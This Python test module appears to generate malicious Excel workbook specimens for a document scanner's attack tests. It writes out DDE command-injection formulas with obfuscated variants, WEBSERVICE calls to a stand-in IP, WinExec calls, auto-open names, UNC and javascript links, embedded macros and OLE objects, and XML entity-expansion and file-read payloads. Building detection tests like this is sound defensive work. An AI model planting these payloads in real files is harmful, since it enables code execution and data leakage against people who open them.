"""Workbooks that fetch, start or carry something."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.attack.package import (
    DECLARED,
    MICROSOFT,
    OFFICE,
    RELATION,
    ROOT,
    TYPES,
    Link,
    Parts,
    S,
    docx,
    links,
    types,
    xlsx,
    zipped,
)
from tests.attack.specimen import Specimen, made
from tests.attack.word_parts import FILE, LAUGHS, OLE, OUT, VBA

SPREAD = f"{OFFICE}.spreadsheetml"


def _formula(text: str, attributes: str = "") -> Parts:
    return xlsx(f'<c r="A1"><f{attributes}>{text}</f><v>0</v></c>')


def _named(text: str, name: str = "a") -> Parts:
    return xlsx(
        book=f'<definedNames><definedName name="{name}">{text}</definedName></definedNames>'
    )


def _part(name: str, body: str, content_type: str, kind: str = "", by: str = "book") -> Parts:
    """A part of the workbook or of its sheet."""
    link = Link(kind, f"/{name}") if kind else None
    where = {"linked" if by == "book" else "sheet_linked": (link,)} if link else {}
    return xlsx(more={name: DECLARED + body.encode()}, typed={name: content_type}, **where)


def _sheet_of(kind: str, root: str) -> Parts:
    return _part(
        "xl/odd/m1.xml", f'<{root} xmlns="{S}"/>', f"application/vnd.ms-excel.{root}+xml", kind
    )


def _bin(name: str, body: bytes, content_type: str, kind: str) -> Parts:
    return xlsx(more={name: body}, typed={name: content_type}, linked=(Link(kind, f"/{name}"),))


LINKED = f'<externalLink xmlns="{S}" xmlns:r="{RELATION}"><externalBook r:id="r1"/></externalLink>'
DDE = f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
QUERIES = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
SOURCE = (
    f'<connections xmlns="{S}"><connection id="1" name="a" type="1" refreshOnLoad="1">'
    '<dbPr connection="Provider=x"/></connection></connections>'
)
FORMULAS = {
    "DDE": _formula("cmd|'/c calc'!A1"),
    "DDE to Excel's words": _formula("MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''"),
    "DDE in a shared formula": _formula("cmd|'/c calc'!A1", ' t="shared" ref="A1" si="0"'),
    "DDE by entity": _formula("cmd&#124;'/c calc'!A1"),
    "DDE, unparsed": _formula("<![CDATA[cmd|'/c calc'!A1]]>"),
    "DDE, comment within": _formula("cmd<!-- x -->|'/c calc'!A1"),
    "web service": _formula('WEBSERVICE("http://203.0.113.9/"&amp;A2)'),
    "web service by its long name": _formula('_xlfn.WEBSERVICE("http://203.0.113.9/")'),
    "web service in small letters": _formula('_xlfn.webservice("http://203.0.113.9/")'),
    "picture from elsewhere": _formula('_xlfn.IMAGE("http://203.0.113.9/a.png")'),
    "real-time data": _formula('RTD("a.b",,"x")'),
    "call of a library": _formula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
    "registered library": _formula('REGISTER.ID("Kernel32","WinExec")'),
    "old macro's word": _formula('EXEC("calc")'),
    "link to a program": _formula('HYPERLINK("file:///c:/windows/system32/calc.exe","看")'),
    "link to a share": _formula('HYPERLINK("\\\\203.0.113.9\\a","看")'),
    "another workbook": _formula("[1]甲!A1"),
    "another workbook on a share": _formula("'\\\\203.0.113.9\\[a.xlsx]甲'!A1"),
    "stock data": _formula('STOCKHISTORY("x",1)'),
    "in a name": _named("cmd|'/c calc'!A1"),
    "in a name that runs when opened": _named("甲!$A$1", "_xlnm.Auto_Open"),
    "in a name, old macro": _named('EVALUATE("x")'),
    "in a name, web service": _named('_xlfn.WEBSERVICE("http://203.0.113.9/")'),
    "in a rule of a cell": xlsx(after='<dataValidations count="1"><dataValidation type="custom" sqref="A1">'
                                "<formula1>cmd|'/c calc'!A1</formula1></dataValidation></dataValidations>"),
    "in a format": xlsx(after='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
                              "<formula>cmd|'/c calc'!A1</formula></cfRule></conditionalFormatting>"),
}  # fmt: skip
LINKS = {
    "another workbook": xlsx(linked=(Link("externalLink", "/xl/externalLinks/e.xml"),), more={
        "xl/externalLinks/e.xml": LINKED.encode(),
        "xl/externalLinks/_rels/e.xml.rels": links(Link("externalLinkPath", OUT, "External"))},
        typed={"xl/externalLinks/e.xml": f"{SPREAD}.externalLink+xml"}),
    "another workbook, another place": _part("xl/ext/el.xml", LINKED, f"{SPREAD}.externalLink+xml", "externalLink"),
    "another workbook, by type alone": _part("xl/ext/el.xml", LINKED, f"{SPREAD}.externalLink+xml"),
    "another workbook, by word alone": _part("xl/ext/el.xml", LINKED, "application/xml"),
    "DDE part": _part("xl/ext/el.xml", DDE, f"{SPREAD}.externalLink+xml", "externalLink"),
    "connections": _part("xl/connections.xml", SOURCE, f"{SPREAD}.connections+xml", "connections"),
    "connections under another name": _part("xl/conn1.xml", SOURCE, f"{SPREAD}.connections+xml", "connections"),
    "connections by word alone": _part("xl/conn1.xml", SOURCE, "application/xml"),
    "query table": _part("xl/q/t.xml", f'<queryTable xmlns="{S}" name="a"/>', f"{SPREAD}.queryTable+xml", "queryTable", "sheet"),
    "queries": xlsx(more={"customXml/item1.xml": QUERIES.encode()}, linked=(Link("customXml", "../customXml/item1.xml"),)),
    "queries in wide letters": xlsx(more={"customXml/item1.xml": QUERIES.encode("utf-16")}),
    "source of a pivot table": _part("xl/pivotCache/p.xml",
        f'<pivotCacheDefinition xmlns="{S}"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
        f"{SPREAD}.pivotCacheDefinition+xml", "pivotCacheDefinition"),
    "real-time data's part": _part("xl/v.xml", f'<volTypes xmlns="{S}"/>', f"{SPREAD}.volatileDependencies+xml", "volatileDependencies"),
    "data model": _bin("xl/model/item.data", b"\0" * 90, "application/vnd.openxmlformats-officedocument.model+data",
                       f"{MICROSOFT}/powerPivotData"),
    "web extension": _part("xl/webextensions/w.xml", "<a/>", "application/vnd.ms-office.webextension+xml"),
    "picture from elsewhere": xlsx(sheet_linked=(Link("image", f"{OUT}.png", "External"),)),
    "link with a script": xlsx(sheet_linked=(Link("hyperlink", "javascript:alert(1)", "External"),)),
    "link to a program": xlsx(sheet_linked=(Link("hyperlink", "file:///c:/windows/system32/calc.exe", "External"),)),
    "link to a share": xlsx(sheet_linked=(Link("hyperlink", "\\\\203.0.113.9\\a", "External"),)),
    "link to a handler": xlsx(sheet_linked=(Link("hyperlink", "ms-excel:ofe|u|http://203.0.113.9/", "External"),)),
    "chart of another workbook": xlsx(more={
        "xl/charts/c.xml": f'<c:chartSpace xmlns:c="c" xmlns:r="{RELATION}"><c:externalData r:id="r1"/></c:chartSpace>'.encode(),
        "xl/charts/_rels/c.xml.rels": links(Link("oleObject", OUT, "External"))}),
}  # fmt: skip
HELD = {
    "macros": _bin("xl/vbaProject.bin", OLE, VBA, f"{MICROSOFT}/vbaProject"),
    "macros under another name": _bin("xl/theme.bin", OLE, VBA, f"{MICROSOFT}/vbaProject"),
    "macros by type of an ending": xlsx(more={"xl/a.qqq": OLE}, defaults={"qqq": VBA}),
    "old macro sheet": _sheet_of(f"{MICROSOFT}/xlMacrosheet", "macrosheet"),
    "old macro sheet as a sheet": _sheet_of("worksheet", "macrosheet"),
    "old macro sheet, other tongue": _sheet_of(f"{MICROSOFT}/xlIntlMacrosheet", "intlmacrosheet"),
    "dialogue sheet": _part("xl/d/d.xml", f'<dialogsheet xmlns="{S}"/>', f"{SPREAD}.dialogsheet+xml", "dialogsheet"),
    "OLE object": _bin("xl/embeddings/o.bin", OLE, f"{OFFICE}.oleObject", "oleObject"),
    "OLE object under another name": _bin("xl/x/o.png", OLE, f"{OFFICE}.oleObject", "oleObject"),
    "package": _bin("xl/embeddings/a.docx", zipped(docx()), f"{OFFICE}.wordprocessingml.document", "package"),
    "control": _bin("xl/activeX/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml", "control"),
    "control's properties": _part("xl/ctrlProps/c.xml", '<formControlPr xmlns="x" fmlaMacro="a"/>',
                                  "application/vnd.ms-excel.controlproperties+xml", "ctrlProp", "sheet"),
    "binary workbook": xlsx(typed={"xl/workbook.xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}),
    "workbook with macros": xlsx(typed={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
    "add-in": xlsx(typed={"xl/workbook.xml": "application/vnd.ms-excel.addin.macroEnabled.main+xml"}),
    "template": xlsx(typed={"xl/workbook.xml": f"{SPREAD}.template.main+xml"}),
    "own ribbon": xlsx(more={
        "customUI/c.xml": b'<customUI onLoad="x"/>',
        ROOT: links(Link("officeDocument", "xl/workbook.xml"), Link(f"{MICROSOFT}/ui/extensibility", "customUI/c.xml"))}),
    "laughs in the texts": xlsx(more={"xl/sharedStrings.xml": LAUGHS + f'<sst xmlns="{S}"><si><t>&i;</t></si></sst>'.encode()},
        typed={"xl/sharedStrings.xml": f"{SPREAD}.sharedStrings+xml"}, linked=(Link("sharedStrings", "sharedStrings.xml"),)),
    "file of the server in the sheet": xlsx(more={
        "xl/worksheets/sheet1.xml": FILE + f'<worksheet xmlns="{S}"><sheetData/></worksheet>'.encode()}),
    "laughs in the list of types": xlsx(more={TYPES: LAUGHS + types({}, {}).partition(b"\n")[2]}),
    "a Word document": docx(),
    "an open document": {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"},
    "an archive": {"a.txt": b"x"},
}  # fmt: skip
RAW = {
    "an old workbook": lambda: OLE,
    "a web page": lambda: b"<table><tr><td>=cmd|'/c calc'!A1</table>",
    "lines of text": lambda: b"=cmd|'/c calc'!A1,2\n",
    "a symbolic link": lambda: b"ID;PWXL;N;E\nO;E\nC;X1;Y1;EEXEC(\"calc\")\nE\n",
    "a query": lambda: b"WEB\n1\nhttp://203.0.113.9/\n",
}  # fmt: skip


def specimens() -> Iterator[Specimen]:
    for group, told in {"formula": FORMULAS, "linked": LINKS, "held": HELD}.items():
        yield from made(
            "xlsx", group, {what: partial(zipped, parts) for what, parts in told.items()}
        )
    yield from made("xlsx", "renamed", RAW)
